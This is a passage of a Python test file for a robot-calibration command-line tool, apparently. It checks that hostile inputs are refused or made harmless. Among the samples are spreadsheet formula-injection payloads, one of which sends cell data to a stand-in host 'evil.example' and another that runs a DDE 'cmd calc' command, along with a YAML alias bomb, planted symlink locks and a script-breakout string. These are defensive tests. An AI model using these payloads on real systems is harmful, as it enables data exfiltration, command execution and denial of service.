        ["plan", "--cell", "reference", "--n", "20", "--seed", "-1", "--out", str(t / "p")], 2,
        r"--seed: -1 is not a seed \(an integer in 0\.\.4294967295\)", [], [t / "p"],
    )  # fmt: skip


@case("plan-n-100000")
def _(b, t):
    return Case(
        ["plan", "--cell", "reference", "--n", "100000", "--out", str(t / "p")], 2,
        r"--n: 100000 is not a number of poses \(an integer in 1\.\.1000\)", [], [t / "p"],
    )  # fmt: skip


@case("fit-margin-minus-1000")
def _(b, t):
    return Case(
        _fit(b["dir"] / "meas.csv", t, "--margin", "-1000"), 2,
        r"--margin: -1000 is not a BIC margin \(a number in \[0, 10000\]\)", [], [t / "out"],
    )  # fmt: skip


@case("fit-sigma-pos-1e-300")
def _(b, t):
    return Case(
        _fit(b["dir"] / "meas.csv", t, "--sigma-pos-mm", "1e-300"), 2,
        r"--sigma-pos-mm: 1e-300 is not a position uncertainty in mm", [], [t / "out"],
    )  # fmt: skip


def _bad_calibration(b, t, edit: Callable[[dict], None]) -> Case:
    from quickhealth.station.formats.vision import rig_to_json
    from quickhealth.vision.reference import reference_rig

    run = t / "vrun"
    (run / "images").mkdir(parents=True)
    (run / "images" / "index.csv").write_text("pose_id,q1,q2,q3,q4,q5,q6\nP1,0,-90,0,0,0,0\n")
    doc = rig_to_json(reference_rig())
    edit(doc)
    (run / "calibration.json").write_text(json.dumps(doc))
    return Case(["vision", "measure", str(run)], 2, "", [run / "calibration.json"],
                [run / "measurements.csv"])  # fmt: skip


@case("vision-calibration-singular-K")
def _(b, t):
    def edit(d: dict) -> None:
        d["cameras"][0]["K"] = [[0, 0, 0], [0, 0, 0], [0, 0, 1]]

    return _with(_bad_calibration(b, t, edit), r"calibration\.json: left camera: focal lengths "
                 r"fx = 0, fy = 0 px must be positive \(K is singular or mirrored\)")  # fmt: skip


@case("vision-calibration-nan-distortion")
def _(b, t):
    def edit(d: dict) -> None:
        d["cameras"][1]["dist"] = [float("nan"), 0, 0, 0, 0]

    return _with(_bad_calibration(b, t, edit), r"calibration\.json: right camera: distortion "
                 r"\[nan, 0\.0, 0\.0, 0\.0, 0\.0\] is not finite or absurd")  # fmt: skip


@case("urdf-joint-axis-zero")
def _(b, t):
    urdf = t / "three.urdf"
    urdf.write_text(_URDF3.replace('<axis xyz="0.6 0 0.8"/>', '<axis xyz="0 0 0"/>'))
    csv = b["dir"] / "meas.csv"
    return Case(
        ["identify", "fit", str(csv), "--robot", str(urdf), "--out", str(t / "out"), "--quiet"],
        2, r"three\.urdf: joint 'j3' has the axis \[0\.0, 0\.0, 0\.0\]: a revolute joint needs a "
        r"direction", [urdf, csv], [t / "out"],
    )  # fmt: skip


_URDF3 = """<?xml version="1.0"?>
<robot name="three">
  <link name="base"/><link name="l1"/><link name="l2"/><link name="l3"/>
  <joint name="j1" type="revolute"><parent link="base"/><child link="l1"/>
    <origin xyz="0 0 0.3" rpy="0 0 0"/><axis xyz="0 0 1"/>
    <limit lower="-3" upper="3" effort="1" velocity="1"/></joint>
  <joint name="j2" type="revolute"><parent link="l1"/><child link="l2"/>
    <origin xyz="0.1 0 0.2" rpy="0.3 0 0"/><axis xyz="0 1 0"/>
    <limit lower="-2" upper="2" effort="1" velocity="1"/></joint>
  <joint name="j3" type="revolute"><parent link="l2"/><child link="l3"/>
    <origin xyz="0.4 0 0" rpy="0 0.2 0.1"/><axis xyz="0.6 0 0.8"/>
    <limit lower="-2.5" upper="2.5" effort="1" velocity="1"/></joint>
</robot>
"""


def _plan12(b) -> Path:
    """A 12-pose plan of the reference cell, made once per worker (an input: never changed)."""
    plan = b["dir"] / "plan12" / "plan.json"
    if not plan.is_file():
        assert main(["plan", "--cell", "reference", "--n", "12", "--out", str(plan.parent)]) == 0
    return plan


@case("run-out-cannot-be-made")
def _(b, t):
    plan = _plan12(b)
    out = Path("/sys/qh-corpus-run")  # the kernel refuses a new folder here, even to root
    return Case(
        ["run", "--cell", "reference", "--plan", str(plan), "--out", str(out), "--sim"], 2,
        r"/sys/qh-corpus-run: cannot write: (Operation not permitted|Permission denied|Read-only)",
        [plan], [out],
    )  # fmt: skip


@case("file-name-with-a-newline")
def _(b, t):
    csv = t / "two\nlines.csv"
    csv.write_bytes((b["dir"] / "meas.csv").read_bytes())
    return Case(
        ["identify", "fit", str(csv), "--robot", "kuka", "--out", str(t / "out"), "--quiet"], 2,
        r"unknown robot 'kuka'", [csv], [t / "out"],
    )  # fmt: skip


@case("missing-file-name-with-a-newline")
def _(b, t):
    return Case(
        ["identify", "fit", str(t / "no\nsuch.csv"), "--robot", "ur5", "--out", str(t / "out")],
        2, r"no\\nsuch\.csv: file not found", [], [t / "out"],
    )  # fmt: skip


@case("csv-comment-line-of-a-million-characters")
def _(b, t):
    text = (b["dir"] / "meas.csv").read_text()
    csv = _csv(b, t, text="# note: " + "x" * 1_000_000 + "\n" + text)
    return Case(
        _fit(csv, t), 2,
        r"bad\.csv:1:1: line of 1000008 characters is too long \(at most 16384\)", [csv],
        [t / "out"],
    )  # fmt: skip


@case("vision-index-line-of-a-million-characters")
def _(b, t):
    return _with(
        _index_run(b, t, "x" * 1_000_000 + ",0,-90,0,0,0,0\n"),
        r"index\.csv:2:1: line of 1000014 characters is too long \(at most 16384\)",
    )


# ---- issue 27: degenerate data is refused, never fitted (the identify side)


@case("fit-positions-in-metres")
def _(b, t):
    rows = [r[:6] + [v / 1000.0 for v in r[6:]] for r in _good_rows(b)]
    csv = _csv(b, t, rows)
    return Case(
        _fit(csv, t),
        2,
        r"bad\.csv: the measured positions spread 0\.\d+ mm while the robot's flange moves "
        r"\d+(\.\d+)? mm over these joints: positions in another unit \(CSV v1 needs mm\)",
        [csv],
        [t / "out"],
    )


@case("fit-one-row-at-1e15-mm")
def _(b, t):
    rows = _good_rows(b)
    rows[9][6] = 1e15
    csv = _csv(b, t, rows)
    return Case(
        _fit(csv, t),
        2,
        r"bad\.csv: row 10: its position is 1e\+12 m from the median of the others: not the "
        r"same instrument set-up",
        [csv],
        [t / "out"],
    )


@case("fit-q6-overwritten-to-span-1.5-deg")
def _(b, t):
    rows = _good_rows(b)
    for i, r in enumerate(rows):
        r[5] = 17.0 + 1.5 * i / (len(rows) - 1)  # the poses were measured elsewhere
    csv = _csv(b, t, rows)
    return Case(
        _fit(csv, t),
        2,
        r"bad\.csv: the data cannot support a model: the model leaves residuals no robot's model "
        r"leaves \(position RMS \d+(\.\d+)? mm; limits 10 mm, 2 deg\): the joint readings and "
        r"the measured poses do not belong together",
        [csv],
        [t / "out"],
    )


@case("fit-sx-1e-300")
def _(b, t):
    rows = [r + [0.03, 0.03, 0.03] for r in _good_rows(b)]
    rows[4][9] = 1e-300
    p = _csv(b, t, rows)
    p.write_text(p.read_text().replace("x,y,z\n", "x,y,z,sx,sy,sz\n", 1))
    return Case(
        _fit(p, t),
        2,
        r"bad\.csv:6:10: column 'sx': uncertainty 1e-300 mm is outside what an instrument "
        r"states \(1e-06 to 1000 mm\)",
        [p],
        [t / "out"],
    )


@case("fit-robot-with-every-length-zero")
def _(b, t):
    text = (ROOT / "fixtures" / "robots" / "ur5.toml").read_text()
    text = re.sub(r"(?m)^(a|d) = .*$", r"\1 = 0.0", text)
    robot = t / "zero.toml"
    robot.write_text(text)
    argv = _fit(b["dir"] / "meas.csv", t)
    argv[argv.index("ur5")] = str(robot)
    return Case(
        argv,
        2,
        r"zero\.toml: the flange moves less than 10 mm over the joint ranges: every link "
        r"length is \(near\) zero",
        [robot],
        [t / "out"],
    )


@case("diagnose-another-robots-data")
def _(b, t):
    other = make_twin(seed=7)
    q = random_joints(other.robot, 60, seed=8, T_instr_base=other.truth.T_instr_base)
    csv = t / "other.csv"
    formats.write_measurements(csv, other.measure(q, seed=9))
    model = b["dir"] / "model.json"
    return Case(
        ["diagnose", str(model), str(csv), "--json", str(t / "d.json")],
        2,
        r"other\.csv: the model does not describe this data: position RMS \d+(\.\d+)? mm "
        r"against the 0\.0\d+ mm it was fitted to",
        [model, csv],
        [t / "d.json"],
    )


# ---- issue 32: a hostile colleague on the same station PC or network
# (locks and links, the fleet's index password, names, metadata, programs, loaders, limits)


def _planted_lock_folder(t: Path, mode: int = 0o777) -> tuple[Path, Path, Path]:
    """A lock folder another user made (mode ``mode``; owned by nobody when we are root)
    with a link named like the next output lock of ``t/plan``, pointing at a victim file."""
    d = t / "qh-locks"
    d.mkdir()
    victim = t / "victim.txt"
    victim.write_text("the victim's file\n")
    key = str((t / "plan").resolve())
    link = d / f"out-{hashlib.sha256(key.encode()).hexdigest()[:32]}.lock"
    link.symlink_to(victim)
    os.chmod(d, mode)
    if os.geteuid() == 0:
        os.chown(d, 65534, 65534)  # nobody's folder
    return d, victim, link


def _lock_env(d: Path) -> Callable[[pytest.MonkeyPatch], None]:
    return lambda mp: mp.setenv("QUICKHEALTH_LOCK_DIR", str(d))


@case("lock-folder-made-by-another-user-with-a-planted-link")
def _(b, t):
    d, victim, link = _planted_lock_folder(t)
    who = r"belongs to uid 65534, not to you" if os.geteuid() == 0 else r"has mode 0777"
    return Case(
        ["plan", "--cell", "reference", "--n", "20", "--out", str(t / "plan")],
        3,
        rf"qh-locks: the lock folder {who}.*refusing to keep locks there",
        [victim, link],
        [t / "plan"],
        patch=_lock_env(d),
    )


@case("lock-file-is-a-planted-link-in-a-private-folder")
def _(b, t):
    d, victim, link = _planted_lock_folder(t, 0o700)
    if os.geteuid() == 0:
        os.chown(d, 0, 0)
    return Case(
        _fit(b["dir"] / "meas.csv", t)[:5] + ["--out", str(t / "plan"), "--quiet"],
        3,
        r"\.lock: a symbolic link stands where the lock file goes: refusing to follow it",
        [victim, link],
        [t / "plan"],
        patch=_lock_env(d),
    )


@case("run-lock-is-a-planted-link")
def _(b, t):
    d = t / "qh-locks"
    d.mkdir(mode=0o700)
    victim = t / "victim.txt"
    victim.write_text("the victim's file\n")
    (d / "run.lock").symlink_to(victim)
    plan = _plan12(b)
    return Case(
        ["run", "--cell", "reference", "--plan", str(plan), "--out", str(t / "r"), "--sim"],
        3,
        r"run\.lock: a symbolic link stands where the lock file goes",
        [victim, d / "run.lock", plan],
        [t / "r" / "journal.jsonl"],
        patch=_lock_env(d),
    )


# issue 32, failure 9: a run folder's name forged '# calibration_id' and '# time_utc' lines
@case("run-folder-name-injects-metadata")
def _(b, t):
    plan = _plan12(b)
    out = t / "run7\n# calibration_id: FAKE-CAL\n# time_utc: 1999-01-01T00:00:00Z"
    return Case(
        ["run", "--cell", "reference", "--plan", str(plan), "--out", str(out), "--sim"],
        2,
        r"--out: the run folder's name \(its run id\) 'run7\\n# calibration_id: FAKE-CAL.*"
        r"holds a line break or control character \(U\+000A at character 5\)",
        [plan],
        [out],
    )


# issue 32, failure 10: every line break str.splitlines knows, not only \n
for _sep in ("\u2028", "\u2029", "\x85", "\x1e", "\x0c"):

    @case(f"import-instrument-with-line-separator-U+{ord(_sep):04X}")
    def _(b, t, sep=_sep):
        return _with(
            _import(t, _EXPORT, "--instrument", f"Leica AT960{sep}# calibration_id: spoofed"),
            rf"--instrument 'Leica AT960.*holds a line break .*\(U\+{ord(sep):04X} at character 12\)",
        )


@case("archive-add-calibration-id-with-line-separator")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    return _with(
        _archive_add(b, t, run) if False else Case(
            ["archive", "add", str(run), "--robot", "cell3", "--archive", str(t / "arch"),
             "--calibration-id", "cal-1\u2028# software_version: 9.9"],
            2, "", [run], [t / "arch"],
        ),
        r"--calibration-id 'cal-1\\u2028# software_version: 9\.9' holds a line break",
    )  # fmt: skip


@case("archive-add-run-whose-metadata-holds-a-line-separator")
def _(b, t):
    def edit(r: Path) -> None:  # a run.json written by hand (or by an older version)
        (r / "run.json").write_text(json.dumps({"cell": "reference\u2029# plan_hash: x"}))

    run = _run_copy(b, t, edit)
    return _with(
        _archive_add(b, t, run),
        r"run: its cell 'reference\\u2029# plan_hash: x' holds a line break",
    )


_FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+cmd", "-2+cmd", "-cmd")  # fmt: skip


def _formula_csv(b, t: Path) -> Path:
    rows = _good_rows(b)
    ids = [_FORMULAS[i % len(_FORMULAS)] if i < 10 else f"p{i}" for i in range(len(rows))]
    buf = ["pose_id,q1,q2,q3,q4,q5,q6,x,y,z"]
    for pid, r in zip(ids, rows, strict=True):
        buf.append('"' + pid.replace('"', '""') + '",' + ",".join(f"{v!r}" for v in r))
    p = t / "formulas.csv"
    p.write_text("\n".join(buf) + "\n")
    return p


def _no_formula_cells(path: Path) -> None:
    """No cell of ``path`` begins as a formula would (numbers aside), as a spreadsheet reads it."""
    import csv as _csv

    for row in _csv.reader(path.read_text().splitlines()):
        for cell in row:
            assert not (cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
                r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell)), (path.name, cell)  # fmt: skip


# issue 32, failure 11: pose ids became spreadsheet formulas in every CSV the product writes
@case("pose-ids-that-are-formulas-fit-residuals")
def _(b, t):
    csv = _formula_csv(b, t)
    out = t / "out"

    def check() -> None:
        _no_formula_cells(out / "residuals.csv")
        assert "'=HYPERLINK(" in (out / "residuals.csv").read_text()
        again = formats.read_measurements(csv, 6).pose_id
        assert again[:5] == _FORMULAS  # read as written: the ids keep their meaning
        m = formats.read_measurements(csv, 6)
        formats.write_measurements(t / "copy.csv", m)
        _no_formula_cells(t / "copy.csv")
        assert formats.read_measurements(t / "copy.csv", 6).pose_id == m.pose_id

    return Case(_fit(csv, t, "--max-order", "1"), 0, r"wrote .*residuals\.csv", [csv], [],
                check=check)  # fmt: skip


@case("pose-ids-that-are-formulas-predict-and-plan-select")
def _(b, t):
    csv = _formula_csv(b, t)

    def check() -> None:
        _no_formula_cells(t / "pred.csv")
        assert main(["plan", "select", str(csv), "--robot", "ur5", "--n", "30",
                     "--out", str(t / "chosen.csv")]) == 0  # fmt: skip
        _no_formula_cells(t / "chosen.csv")
        chosen = formats.read_measurements(t / "chosen.csv", 6, joints_only=True).pose_id
        assert set(chosen) <= set(formats.read_measurements(csv, 6).pose_id)

    return Case(["identify", "predict", str(b["dir"] / "model.json"), str(csv), "--out",
                 str(t / "pred.csv")], 0, r"wrote .*pred\.csv", [csv], [], check=check)  # fmt: skip


# issue 32, failure 12: a CSV comment held the report's embedded JSON open
@case("report-json-element-cannot-be-broken-open")
def _(b, t):
    def edit(r: Path) -> None:
        _report_v1(r)
        text = (r / "measurements.csv").read_text()
        (r / "measurements.csv").write_text(
            "# note: <!--<script>alert(1)</script> & </script><b>\n" + text
        )

    run = _run_copy(b, t, edit)

    def check() -> None:
        page = (run / "report.html").read_text()
        m = re.search(
            r'<script type="application/json" id="report-json">(.*?)</script>', page, re.S
        )
        assert m is not None and "<" not in m.group(1) and ">" not in m.group(1)
        doc = json.loads(m.group(1))
        assert "<!--<script>" in json.dumps(doc, ensure_ascii=False)  # the text, kept
        assert page.count("<script") == 1  # nothing else became a script element

    return Case(["report", str(run), "--no-diagnose", "--archive", str(t / "arch")], 0,
                r"report\.html", [run / "measurements.csv"], [], check=check)  # fmt: skip


# issue 32, failure 5: compensate skipped movec and optimovej and said "0.000000 mm after"
_Q3 = [0.1, -1.4, 1.3, -0.8, 1.0, 0.1]


@case("compensate-every-move-kind-is-compensated")
def _(b, t):
    p = _script(t, f"def prog():\n  movej({_list(GOOD_Q)}, a=1.0, v=0.2)\n"
                   f"  movec({_list(_Q3)}, {_list(GOOD_Q2)}, a=1.0, v=0.1, r=0)\n"
                   f"  optimovej({_list(GOOD_Q)}, 0.3, 0.3)\n  movej({_list(GOOD_Q2)})\nend\n")  # fmt: skip
    out = t / "comp.script"

    def check() -> None:
        before, after = joint_targets(p.read_text(), 6), joint_targets(out.read_text(), 6)
        assert before.commands == ("movej", "movec", "movec", "optimovej", "movej")
        assert after.commands == before.commands and not after.unreadable
        assert np.all(np.abs(after.q - before.q).max(axis=1) > 1e-7)  # every target moved

    return _with(_comp(b, t, None, p), r"^5 targets: predicted TCP error", code=0, absent=[],
                 check=check)  # fmt: skip


@case("compensate-refuses-motions-it-cannot-rewrite")
def _(b, t):
    p = _script(t, f"movej({_list(GOOD_Q)})\nmovec(p[0.3, 0, 0.4, 0, 3.14, 0], {_list(GOOD_Q2)})\n"
                   "speedl([0, 0, 0.05, 0, 0, 0], 0.5, 2.0)\n"
                   f"servoc(p[0.3, 0.1, 0.4, 0, 3.14, 0])\nmovej({_list(GOOD_Q2)})\n")  # fmt: skip
    c = _with(_comp(b, t, None, p), r"p\.script:3:1: speedl moves the arm without a joint target "
              r"to compensate \(or --leave speedl to keep it as written\)")  # fmt: skip
    c.n_lines = 3  # one line per motion, each naming its command
    return c


@case("compensate-leave-lists-what-was-left")
def _(b, t):
    p = _script(t, f"movej({_list(GOOD_Q)})\nspeedl([0, 0, 0.05, 0, 0, 0], 0.5, 2.0)\n"
                   f"movel(p[0.3, 0, 0.4, 0, 3.14, 0])\nmovej({_list(GOOD_Q2)})\n")  # fmt: skip
    out = t / "comp.script"

    def check() -> None:
        new = out.read_text().splitlines()
        assert new[1:3] == p.read_text().splitlines()[1:3]  # kept as written

    return _with(_comp(b, t, None, p, "--leave", "speedl", "--leave", "movel"),
                 r"left as written \(--leave\): 2 motion\(s\), not compensated: speedl at line 2; "
                 r"movel at line 3", code=0, absent=[], check=check)  # fmt: skip


# issue 32, failure 6: a 2 KB calibration YAML of nested aliases took 21 s and 2.3 GB
def _alias_bomb(where: str) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    seg = "{x: 0, y: 0, z: 0.1625, roll: 0, pitch: 0, yaw: 0}"
    kin = {s: seg for s in ("shoulder", "upper_arm", "forearm", "wrist_1", "wrist_2", "wrist_3")}
    kin[where] = "*a8"
    return "\n".join(lines) + "\nkinematics:\n" + "".join(f"  {k}: {v}\n" for k, v in kin.items())


for _where in ("shoulder", "hash"):

    @case(f"calibration-yaml-alias-bomb-in-{_where}")
    def _(b, t, where=_where):
        cal = t / "bomb.yaml"
        cal.write_text(_alias_bomb(where))
        assert cal.stat().st_size < 2048
        return Case(_fit(b["dir"] / "meas.csv", t, "--calibration", str(cal)), 2,
                    r"bomb\.yaml:\d+:\d+: not valid YAML: an alias \(\*name\) refused",
                    [cal], [t / "out"])  # fmt: skip


@case("calibration-yaml-huge-hash-is-quoted-short")
def _(b, t):
    cal = t / "hash.yaml"
    seg = "{x: 0, y: 0, z: 0.1625, roll: 0, pitch: 0, yaw: 0}"
    segs = ("shoulder", "upper_arm", "forearm", "wrist_1", "wrist_2", "wrist_3")
    cal.write_text("kinematics:\n" + "".join(f"  {k}: {seg}\n" for k in segs)
                   + "  hash: [" + ", ".join(["calib_123456789"] * 20000) + "]\n")  # fmt: skip
    c = _with(Case(_fit(b["dir"] / "meas.csv", t, "--calibration", str(cal)), 2, "", [cal],
                   [t / "out"]),
              r"hash\.yaml: kinematics\.hash = \['calib_123456789', 'calib_123456789', '… is "
              r"not the calibration's hash")  # fmt: skip
    return c


# issue 32, failure 7: reprocess ignored the fit's row limit (tests/station/test_reprocess.py)


# issue 32, failure 8: trend judged a model holding Infinity; report refused it
@case("trend-archived-model-holds-infinity")
def _(b, t):
    arch = _archived(b, t)
    model = arch / "robots" / "cell3" / "run1" / "model.json"
    doc = json.loads(model.read_text())
    doc["coeffs"][3] = float("inf")  # json writes Infinity, which Python's json reads back
    model.write_text(json.dumps(doc))
    return Case(["trend", "cell3", "--archive", str(arch)], 2,
                r"run1/model\.json: coefficient \S+ is inf, not a finite number", [model],
                [])  # fmt: skip


# issue 32, failure 13: a 57 MiB model.json of 20 M empty objects parsed into 1.56 GB
@case("model-json-over-the-value-budget")
def _(b, t):
    m = t / "m.json"
    with m.open("w") as fh:  # 3 M + 1 empty objects under a key nobody reads: 9 MB
        text = json.dumps(b["doc"])
        fh.write(text[:-1] + ', "padding": [' + "{}," * 3_000_000 + "{}]}")
    return Case(["identify", "predict", str(m), str(b["dir"] / "meas.csv"), "--out",
                 str(t / "p.csv")], 2,
                r"m\.json: up to [\d,]+ JSON values, over the 3,000,000 a model file may hold",
                [m], [t / "p.csv"])  # fmt: skip


@case("model-json-unknown-key-is-ignored")
def _(b, t):
    m = _model(b, t, lambda d: d.update({"future_key": {"note": "a newer writer's"}}))
    return Case(["identify", "predict", str(m), str(b["dir"] / "meas.csv"), "--out",
                 str(t / "p.csv")], 0, r"wrote .*p\.csv", [m], [])  # fmt: skip


# issue 32, failure 3: robot names (and run ids) that differ only in case shared one folder on
# a case-insensitive share; both index rows remained
def _rows(arch: Path) -> list[tuple[str, str]]:
    import sqlite3

    with sqlite3.connect(arch / "index.sqlite") as con:
        return sorted(con.execute("select robot, run_id from runs").fetchall())


for _robot, _rid, _pat in (
    ("CELL3", "run1", r"robot 'CELL3': the archive has robot 'cell3', the same name but for "
                      r"case: on a case-insensitive file system"),
    ("Cell3", "run2", r"robot 'Cell3': the archive has robot 'cell3'"),
    ("cell3", "RUN1", r"run id 'RUN1': robot cell3 has run 'run1', the same id but for case"),
):  # fmt: skip

    @case(f"archive-add-{_robot}-{_rid}-differs-only-in-case")
    def _(b, t, robot=_robot, rid=_rid, pat=_pat):
        arch = _archived(b, t)
        run = _run_copy(b, t, lambda r: None)
        before = _rows(arch)

        def check() -> None:
            assert _rows(arch) == before == [("cell3", "run1")]
            assert sorted(p.name for p in (arch / "robots").iterdir()) == ["cell3"]
            assert sorted(p.name for p in (arch / "robots" / "cell3").iterdir()) == ["run1"]

        return Case(["archive", "add", str(run), "--robot", robot, "--run-id", rid,
                     "--archive", str(arch)], 2, pat, [run], [arch / "robots" / robot / rid],
                    check=check)  # fmt: skip


for _name, _pat in (
    ("CON", r"robot 'CON' is not allowed: Windows keeps CON for a device"),
    ("nul.cell3", r"robot 'nul\.cell3' is not allowed: Windows keeps NUL for a device"),
    ("cell3.", r"robot 'cell3\.' is not allowed: it ends with '\.', which Windows drops"),
    ("cell3\n", r"robot 'cell3\\n' is not allowed: use letters, digits"),
):

    @case(f"archive-add-reserved-robot-name-{_name.strip()}")
    def _(b, t, name=_name, pat=_pat):
        run = _run_copy(b, t, lambda r: None)
        return Case(["archive", "add", str(run), "--robot", name, "--archive", str(t / "arch")],
                    2, pat, [run], [t / "arch"])  # fmt: skip


@case("archive-add-check-whose-change-holds-a-line-separator")
def _(b, t):
    arch = _archived(b, t)
    chk = t / "check1"
    chk.mkdir()
    (chk / "check.json").write_text(json.dumps({
        "schema": "quickhealth.check/1", "verdict": "changed", "decided": True, "poses": 5,
        "changes": [{"words": "joint 2 zero offset\u2028run run1: healthy", "size": 0.3,
                     "size_unit": "mrad"}],
    }))  # fmt: skip
    return Case(["archive", "add-check", str(chk), "--robot", "cell3", "--archive", str(arch)],
                2, r"check\.json: its changes 'joint 2 zero offset\\u2028run run1: healthy.*"
                r"holds a line break", [chk, arch / "index.sqlite"],
                [arch / "checks"])  # fmt: skip


# ------------------------------------------------------------------------------ runner


def _children() -> set[int]:
    """This process's children still running (none where /proc is missing)."""
    me, out = os.getpid(), set()
    for d in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if d.isdigit():
            try:
                fields = Path(f"/proc/{d}/stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == me and fields[0] != "Z":
                out.add(int(d))
    return out


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_input(name, base, tmp_path, capsys, monkeypatch):
    import time

    c = CASES[name](base, tmp_path)
    before = {p: _digest(p) for p in c.inputs}
    kids = _children()
    if c.patch is not None:
        c.patch(monkeypatch)
    rc = main(c.argv)
    monkeypatch.undo()
    t_end = time.monotonic() + 5
    while _children() - kids and time.monotonic() < t_end:
        time.sleep(0.05)
    assert not _children() - kids, f"processes left running: {_children() - kids}"
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    assert rc == c.code, (rc, err)
    if c.code == 0:
        assert re.search(c.pattern, out), out
    else:
        lines = err.strip().splitlines()
        assert len(lines) == c.n_lines, err
        assert all(
            re.match(r"quickhealth( [\w-]+)*: (error|internal error): ", x) for x in lines
        ), err
        assert any(re.search(c.pattern, x) for x in lines), err
    for p, h in before.items():
        assert _digest(p) == h, f"{p} changed"
    for p in c.absent:
        assert not p.exists() and not p.is_symlink(), f"{p} was written"
    leftovers = [
        p for pat in (".*.tmp", ".incoming-*", ".identify-*", ".reprocess-*")
        for p in tmp_path.rglob(pat)
    ]  # fmt: skip
    assert not leftovers, leftovers
    if c.check is not None:
        c.check()


def test_corpus_covers_sixty_cases():
    assert len(CASES) >= 214, len(CASES)  # issue 13's 106, issue 27's 40, ..., issue 32's 31


def test_unexpected_error_is_exit_3_one_line_traceback_only_with_debug(monkeypatch, capsys):
    """A bug is an internal error (3), never 1: a cron `trend ... || alert` can tell."""
    import quickhealth.station.cli as cli

    def boom(args):
        raise ZeroDivisionError("a bug")

    parser = cli.build_parser()
    monkeypatch.setattr(cli, "build_parser", lambda command=None: parser)
    sub = next(a for a in parser._actions if a.__class__.__name__ == "_SubParsersAction")
    sub.choices["trend"].set_defaults(func=boom)
    assert main(["trend", "cell3"]) == 3
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert err.startswith("quickhealth: internal error: ZeroDivisionError: a bug")
    for argv in (["--debug", "trend", "cell3"], ["trend", "cell3", "--debug"]):
        assert main(argv) == 3  # --debug before or after the command's name
        err = capsys.readouterr().err
        assert "Traceback" in err and "ZeroDivisionError: a bug" in err, argv
    # after "--" it is an argument, not the option
    from quickhealth.station.cli import _take_debug

    assert _take_debug(["trend", "--", "--debug"]) == (["trend", "--", "--debug"], False)


def test_memory_error_and_oserror_are_one_line(monkeypatch, capsys):
    import quickhealth.station.cli as cli

    parser = cli.build_parser()
    monkeypatch.setattr(cli, "build_parser", lambda command=None: parser)
    sub = next(a for a in parser._actions if a.__class__.__name__ == "_SubParsersAction")
    for exc, code, text in (
        (MemoryError(), 3, "out of memory"),
        (RecursionError(), 2, "nested too deeply"),
        (OSError(28, "No space left on device", "/x"), 3, "/x: No space left on device"),
    ):

        def raiser(args, exc=exc):
            raise exc

        sub.choices["trend"].set_defaults(func=raiser)
        assert main(["trend", "cell3"]) == code
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and text in err, err


def test_read_only_file_system_is_exit_2(monkeypatch, tmp_path):
    """EROFS from the kernel (simulated at os.open: mounting needs privileges) is usage, exit 2."""
    import errno

    from quickhealth.identify.errors import InputError
    from quickhealth.station import fsio

    def ro(*a, **k):
        raise OSError(errno.EROFS, "Read-only file system", str(a[0]))

    monkeypatch.setattr(fsio.os, "open", ro)
    with pytest.raises(InputError, match="cannot write: Read-only file system"):
        fsio.write_atomic(tmp_path / "x.csv", "a")


# ------------------------------------------------------------------- real subprocesses

EXE = Path(sys.executable).with_name("quickhealth")


@pytest.mark.slow
@pytest.mark.parametrize(
    "name",
    [
        "model-nan-coefficient",
        "compensate-correction-over-cap",
        "predict-out-is-the-measurements",
        "script-binary",
    ],
)
def test_hostile_input_through_the_installed_script(name, base, tmp_path):
    if not EXE.exists():
        pytest.skip(f"{EXE} not installed")
    c = CASES[name](base, tmp_path)
    before = {p: _digest(p) for p in c.inputs}
    r = subprocess.run([str(EXE), *c.argv], capture_output=True, text=True, timeout=120)
    assert r.returncode == c.code, r.stderr
    assert "Traceback" not in r.stderr
    lines = r.stderr.strip().splitlines()
    assert len(lines) == c.n_lines and any(re.search(c.pattern, x) for x in lines), r.stderr
    assert all(_digest(p) == h for p, h in before.items())
    assert not any(p.exists() for p in c.absent)
